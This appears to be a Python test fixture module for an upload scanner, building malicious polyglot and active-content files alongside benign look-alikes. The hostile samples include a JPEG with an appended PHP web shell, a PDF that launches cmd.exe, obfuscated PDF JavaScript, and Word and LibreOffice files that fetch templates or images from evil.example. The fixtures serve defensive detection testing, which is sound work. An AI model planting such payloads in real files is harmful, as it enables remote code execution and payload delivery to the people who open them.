"""Files that are two things at once, or that do something when somebody opens them; and honest ones that look alike."""

from __future__ import annotations

import zlib
from collections.abc import Mapping

from tests.kit.attached import GOOD, office, zipped

_PDF, _PNG, _GIF, _WEBP, _JPG = (GOOD[ending] for ending in ("pdf", "png", "gif", "webp", "jpg"))
_SCRIPT = b"<script>alert(1)</script>"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SETTINGS = "word/_rels/settings.xml.rels"
_TWO, _BROKEN, _FETCHES = "twee soorten tegelijk", "beschadigd", "haalt iets van een ander adres"
_PROGRAMS, _PDF_ACTIVE, _PASSWORD = "kleine programma", "een programma of een ander bestand", "wachtwoord"


def _with(dictionary: bytes) -> bytes:
    """A PDF with one more object."""
    return _PDF.replace(b"trailer", b"2 0 obj\n" + dictionary + b"\nendobj\ntrailer")


def packed(objects: bytes, head: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") -> bytes:
    """A PDF of which some objects are packed, as most are."""
    return _with(b"<< " + head + b" >>\nstream\r\n" + zlib.compress(objects) + b"\nendstream")


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file that points at something."""
    relation = f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return office("docx", {_SETTINGS: f"<Relationships>{relation}</Relationships>"})


def _typed(content_type: str) -> bytes:
    """A Word file with a part of some type, under a name that says nothing."""
    types = f'<Types><Override PartName="/word/a.bin" ContentType="application/{content_type}"/></Types>'
    return zipped({"[Content_Types].xml": types, "word/document.xml": "<document/>", "word/a.bin": b"x"})


def _text(content: str) -> bytes:
    """A text of LibreOffice."""
    kind = "application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": kind, "content.xml": f"<office>{content}</office>"})


_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HOSTILE: Mapping[str, tuple[bytes, str]] = {  # the bytes, and what is said
    "PDF and page": (_PDF + b"<html>" + _SCRIPT, _TWO),
    "PDF and archive": (_PDF + zipped({"virus.exe": b"MZ"}), _TWO),
    "PDF and RAR": (_PDF + b"Rar!\x1a\x07\x00" + bytes(30), _TWO),
    "PDF and SVG": (_PDF.replace(b"1 0 obj", b'% <SVG onload="alert(1)">\n1 0 obj'), _TWO),
    "Word and PDF": (b"PK\x03\x04%PDF-1.7\n" + office("docx"), _TWO),
    "GIF and script": (b"GIF89a/*" + _GIF[8:] + b"*/=1;alert(1)//", _BROKEN),
    "GIF that is only script": (b"GIF89a=1;alert(document.domain)//" + bytes(50), _BROKEN),
    "GIF and page": (_GIF + _SCRIPT, _TWO),
    "GIF and archive of Java": (_GIF + zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"x"}), _TWO),
    "PNG and page in its text": (_PNG[:-12] + b"\x00\x00\x00\x19tEXt" + _SCRIPT + bytes(4) + _PNG[-12:], _TWO),
    "PNG and more": (_PNG + b"alert(1)", _BROKEN),
    "PNG and PDF": (_PNG + _PDF, _TWO),
    "JPEG and PHP": (_JPG + b"<?php system($_GET[0]); ?>", _TWO),
    "JPEG and archive": (_JPG + zipped({"virus.exe": b"MZ"}), _TWO),
    "WebP and script": (_WEBP + b"*/=1;alert(1)", _BROKEN),
    "page that becomes PDF later": (b"<!-- " + _PDF + b"-->", "Dit is een webpagina"),
    "PDF with script": (_with(_ACTION), _PDF_ACTIVE),
    "PDF with script under a disguise": (_with(_ACTION.replace(b"/JavaScript", b"/J#61va#53cript")), _PDF_ACTIVE),
    "PDF with packed script": (packed(b"3 0 " + _ACTION), _PDF_ACTIVE),
    "PDF with packed script, not said to be": (packed(b" 3 0 " + _ACTION, b"/Length 9"), _PDF_ACTIVE),
    "PDF that starts a program": (_with(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"), _PDF_ACTIVE),
    "PDF with a file": (_with(b"<< /Type /Filespec /EF << /F 3 0 R >> >>\n<< /Type /EmbeddedFile >>"), _PDF_ACTIVE),
    "PDF with a form that computes": (_with(b"<< /AcroForm << /XFA [ 3 0 R ] >> >>"), _PDF_ACTIVE),
    "PDF with a password": (_PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root"), _PASSWORD),
    "Word with a template from elsewhere": (_related("attachedTemplate", "https://evil.example/a.dotm"), _FETCHES),
    "Word with a template of the network": (_related("attachedTemplate", "\\\\evil.example\\a.dotm"), _FETCHES),
    "Word with a template by file": (_related("attachedTemplate", "file://evil.example/a.dotm"), _FETCHES),
    "Word with a picture from elsewhere": (_related("image", "http://evil.example/a.png"), _FETCHES),
    "Word with a program": (_related("oleObject", "embeddings/a.bin", "Internal"), _PROGRAMS),
    "Word with macros under another name": (_typed("vnd.ms-office.vbaProject"), _PROGRAMS),
    "Word that says it has macros": (_typed("vnd.ms-word.document.macroEnabled.main+xml"), _PROGRAMS),
    "Excel with old macros": (_typed("vnd.ms-excel.macrosheet+xml"), _PROGRAMS),
    "Word with ActiveX": (_typed("vnd.ms-office.activeX+xml"), _PROGRAMS),
    "Word with an entity": (office("docx", {_SETTINGS: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), _BROKEN),
    "Word with a broken list": (office("docx", {_SETTINGS: "<a"}), _BROKEN),
    "LibreOffice with an event": (_text('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), _FETCHES),
    "LibreOffice with a picture from elsewhere": (_text('<draw:image xlink:href="https://evil.example/"/>'), _FETCHES),
}
HONEST: Mapping[str, bytes] = {
    "PDF with a link": _with(b"<< /S /URI /URI (https://gemeente.example/) >>"),
    "PDF with packed objects": packed(b"3 0 << /Type /Catalog >>"),
    "PDF with a page of which the text speaks of JavaScript": packed(b"BT (/JavaScript) Tj ET", b"/Length 9"),
    "PDF with what was written by a camera": _with(b"<x:xmpmeta><rdf:RDF/></x:xmpmeta>"),
    "JPEG with more of a telephone behind it": _JPG + b"SEFH" + bytes(40),
    "PNG with a text": _PNG[:-12] + b"\x00\x00\x00\x01tEXta" + bytes(4) + _PNG[-12:],
    "Word with a link": _related("hyperlink", "https://gemeente.example/"),
    "Word with the template of the house": _related("attachedTemplate", "file:///C:\\Sjablonen\\Brief.dotx"),
    "Word with a picture": _related("image", "media/foto.png", "Internal"),
    "LibreOffice with a link and a picture": _text(
        '<text:a xlink:href="https://a.example/"/><draw:image xlink:href="P/1.png"/>'
    ),
}
